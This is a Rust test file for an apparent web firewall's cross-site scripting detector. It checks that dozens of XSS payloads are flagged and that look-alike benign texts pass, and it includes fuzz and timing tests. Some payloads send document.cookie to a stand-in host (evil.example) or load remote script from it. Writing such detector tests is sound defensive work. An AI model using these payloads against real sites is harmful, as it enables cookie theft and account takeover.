//! Script in markup: attacks of each kind, and honest texts that look alike.

use std::sync::Arc;

use http::{HeaderMap, HeaderValue, Method};
use proptest::prelude::*;

use super::*;
use crate::inspect::{Class, Engine, Head, Profile, RuleFile, Settings};

fn profile() -> Profile {
    let rules = RuleFile::ready_made().expect("ready-made rules");
    let engine = Arc::new(Engine::new(rules).expect("compiled"));
    Profile::new(engine, Settings::default()).expect("a profile")
}

/// What rules of these classes make of a value, as a parameter (`query`) or in a body of JSON.
pub(in crate::inspect::detect) fn scores(classes: &[Class], is_body: bool, values: &[&str]) -> Vec<(u32, Vec<String>)> {
    let profile = profile();
    let judge = |value: &&str| {
        let mut headers = HeaderMap::new();
        let query = percent_encoding::utf8_percent_encode(value, percent_encoding::NON_ALPHANUMERIC).to_string();
        let body = serde_json::json!({ "v": value }).to_string();
        headers.insert("content-type", HeaderValue::from_static("application/json"));
        let query = format!("v={query}");
        let head =
            Head { method: &Method::POST, path: "/x", query: (!is_body).then_some(query.as_str()), headers: &headers };
        let report = profile.judge(&head, is_body.then_some(body.as_bytes()));
        let findings: Vec<_> = report.findings.into_iter().filter(|finding| classes.contains(&finding.class)).collect();
        (findings.iter().map(|finding| finding.score).sum(), findings.into_iter().map(|finding| finding.rule).collect())
    };
    values.iter().map(judge).collect()
}

/// Asserts that each value is an attack.
pub(in crate::inspect::detect) fn caught(classes: &[Class], is_body: bool, values: &[&str]) {
    let missed: Vec<_> =
        values.iter().zip(scores(classes, is_body, values)).filter(|(_, (score, _))| *score < 5).collect();
    assert!(missed.is_empty(), "missed: {missed:#?}");
}

/// Asserts that no value is one.
pub(in crate::inspect::detect) fn passed(classes: &[Class], is_body: bool, values: &[&str]) {
    let stopped: Vec<_> =
        values.iter().zip(scores(classes, is_body, values)).filter(|(_, (score, _))| *score >= 5).collect();
    assert!(stopped.is_empty(), "stopped: {stopped:#?}");
}

const XSS: &[Class] = &[Class::Xss];

#[test]
fn script_in_markup_is_caught() {
    caught(
        XSS,
        true,
        &[
            "<script>alert(document.cookie)</script>",
            "<ScRiPt >prompt`1`</ScRiPt>",
            "<script src=//evil.example/x.js>",
            "<script/src=data:,alert(1)>",
            "<script\n>window.location='https://evil.example/?c='+document.cookie</script>",
            "<svg><script>self[`al`+`ert`](1)",
            "<scr\0ipt>alert(1)</scr\0ipt>",
            "hello <img src=x onerror=fetch('//evil.example/'+document.cookie)>",
            "<img/src/onerror=alert(1)>",
            "<IMG SRC=x\nonERROR\n=\nalert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=\"alert(1)\"//",
            "<details open ontoggle=confirm(1)>",
            "<body onpageshow=alert(1)>",
            "<x onpointerrawupdate=alert(1) style=display:block>test",
            "<video><source onerror=\"javascript:alert(1)\">",
            "<input autofocus onfocus=alert(1)",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<iframe src=javascript:alert(1)>",
            "<embed src=//evil.example/x.swf>",
            "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<form><button formaction=javascript:alert(1)>X",
            "<a href=\"  java\tscript:alert(1)\">x</a>",
            "<a href='\u{1}javascript:alert(1)'>x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=vbscript:msgbox(1)>x</a>",
            "<svg><animate attributeName=href values=javascript:alert(1) />",
            "<svg><set attributeName=onmouseover to=alert(1)>",
            "<math><mtext></mtext><a xlink:href=javascript:alert(1)>x",
            "<div style=\"width:expression(alert(1))\">",
            "<div style=\"x:exp/**/ression(alert(1))\">",
            "<style>@import'//evil.example/x.css';</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "</title><script>alert(1)</script>",
            "</textarea><img src=x>",
            "\"><b>x",
            "'/><marquee>x",
            "<!--><img src=x onerror=alert(1)>-->",
            "<a href=feed:javascript:alert(1)>x</a>",
            "<x @[_b.constructor`alert(1)`()]>",
            "<div ng-app ng-csp><input autofocus ng-focus=\"$event.view.alert(1)\">",
            "<x v-html=_c.constructor('alert(1)')()>",
            "<script>{onerror=alert}throw 1</script>",
            "<?xml-stylesheet href='javascript:alert(1)'?>",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        ],
    );
}

#[test]
fn script_without_markup_is_caught() {
    caught(
        XSS,
        true,
        &[
            "\" onfocus=alert(1) autofocus=\"",
            "' onmouseover='alert(1)",
            "x onerror=alert(1)",
            "\"onclick=\"prompt(1)",
            "javascript:alert(1)",
            "JaVaScRiPt:alert`1`//",
            "java\nscript:alert(1)",
            "javascript://%0aalert(1)",
            "data:text/html,<b>x</b>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/svg+xml,<svg/onload=alert(1)>",
            "[click](javascript:alert(1))",
            "'-alert(1)-'",
            "';alert(1)//",
            "\");alert(1);(\"",
            "\\');confirm(document.domain)//",
            "'}};alert(1);{{'",
            "`-prompt(1)-`",
            "alert(1)",
            "alert.call(null,1)",
            "(alert)(1)",
            "alert?.(1)",
            "eval(atob('YWxlcnQoMSk='))",
            "eval(String.fromCharCode(97,108))",
            "setTimeout('alert(1)',0)",
            "[1].find(alert)",
            "document.location='//evil.example/'+document.cookie",
            "document.cookie",
            "window['al'+'ert'](1)",
            "top[/al/.source+/ert/.source](1)",
            "self[\"document\"][\"cookie\"]",
            "[][\"constructor\"][\"constructor\"](\"alert(1)\")()",
            "a=[].constructor.constructor('alert(1)')()",
            "new Function`alert\\`1\\``",
            "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]",
            "background:url(javascript:alert(1))",
            "width:expression(alert(1))",
            "import('//evil.example/x.js')",
            "x=1;a=alert;a(1)",
            "toString=alert;window+''",
            "'alert\\x281\\x29'instanceof{[Symbol.hasInstance]:eval}",
            "[a](data:text/html;base64,PHNjcmlwdD4=)",
            "<javascript:prompt(1)>",
            "![a](https://a.example/x\"onerror=\"alert(1))",
        ],
    );
}

#[test]
fn honest_texts_pass() {
    passed(
        XSS,
        true,
        &[
            "<p>Hello <b>you</b>, see <a href=\"https://example.com/?a=1&b=2\" target=\"_blank\" rel=\"noopener\">this</a></p>",
            "<img src=\"https://example.com/a.png\" alt=\"a > b\" width=\"10\">",
            "<details><summary>Log</summary>\n\n```\nVec<Option<String>> a < b && c > d\n```\n</details>",
            "<table class=\"x\"><tr><td style=\"color: red; font-family: 'Arial'\">1</td></tr></table>",
            "<html><head><meta charset=\"utf-8\"><title>Hi</title></head><body><p>Dear all</p></body></html>",
            "<!-- Thanks for the report! -->\n### Steps",
            "Map<String, List<Object>> and Vec<u8> and HashMap<K, V>",
            "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><head><link rel=\"stylesheet\" href=\"https://fonts.example/css\">\
         <style>v\\:* {behavior:url(#default#VML);} p { margin: 0 }</style></head><body><p class=\"MsoNormal\">Hi<o:p></o:p></p></body></html>",
            "<import resource=\"x.xml\"/><object class=\"GtkWindow\" id=\"w\"/><link name=\"base\"/><set name=\"a\" table=\"b\"/>",
            "#include <math.h>\ntemplate<class T = int> std::set<T> x; Dictionary<object, string> d = null;",
            "if a < b and c > d then x = y",
            "I <3 you, 5 < 6",
            "The script tag <script> is used in HTML",
            "Use <iframe> or <object>?",
            "Bob <bob@example.com> wrote: hi",
            "<https://example.com>",
            "Please alert (the on-call) and confirm (by mail)",
            "the alert(s) fired, confirm(ed) by two",
            "In JavaScript: use let. TypeScript: types (optional)",
            "Javascript: The Good Parts",
            "Documents. Windows. Location. Top of the document.",
            "set the window size = 5; onboarding=done",
            "on call = Bob; once=true; only=\"x\"",
            "![img](data:image/png;base64,iVBORw0KGgo=) and [a](https://a.b/c)",
            "data: text, data: html",
            "It's \"quoted\", isn't it? (yes)",
            "function of the import (and export) of documents",
            "<project xmlns=\"http://maven.apache.org/POM/4.0.0\"><modelVersion>4.0.0</modelVersion></project>",
            "<svg width=\"1\" height=\"1\" xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>",
            "{\"prompt\": \"a function\", \"eval\": [1, 2, [3]], \"location\": \"x\"}",
            "arr[0][1] + (a || !b)",
            "style: bold; behavior: normal",
            "print(\"a\"); x = f('b')",
            "CAT_20\">ETSY</A",
        ],
    );
}

#[test]
fn tags_in_the_quotes_of_tags_are_read_within_bounds() {
    let maze = "<a b=\"\" c=\"".repeat(20_000);
    let started = std::time::Instant::now();
    caught(XSS, true, &[&maze]);
    assert!(started.elapsed().as_secs() < 5);
}

proptest! {
    #[test]
    fn nothing_panics(bytes in proptest::collection::vec(any::<u8>(), 0..200), text in "[<>a-o=\"'`/ :;(){}\\[\\]+.!\\n\\x00]{0,120}") {
        for value in [bytes.as_slice(), text.as_bytes()] {
            run_all(value);
        }
    }
}

/// Runs all detectors on a value.
pub(in crate::inspect::detect) fn run_all(value: &[u8]) {
    let lower = value.to_ascii_lowercase();
    let occurs = Bytes::of(value);
    for is_name in [false, true] {
        let input = Input {
            bytes: value,
            lower: &lower,
            part: crate::inspect::Part::Query,
            trail: b"",
            is_name,
            occurs: &occurs,
        };
        let mut found = Found::default();
        for detector in [&DETECTOR, &super::super::template::DETECTOR, &super::super::line::DETECTOR] {
            (detector.run)(&input, &mut found);
        }
        for (_, range) in found.evidence {
            assert!(range.start <= range.end);
        }
    }
}
